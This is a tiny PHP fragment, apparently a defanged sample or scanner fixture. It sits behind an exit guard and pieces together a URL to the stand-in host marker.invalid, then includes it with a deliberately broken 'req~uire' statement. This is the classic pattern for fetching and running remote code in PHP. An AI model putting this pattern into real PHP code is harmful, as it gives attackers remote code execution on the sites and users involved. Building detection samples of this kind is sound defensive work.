<?php exit; ?>
<?php
$u = 'http://' . 'marker.invalid' . '/m'; req~uire $u;
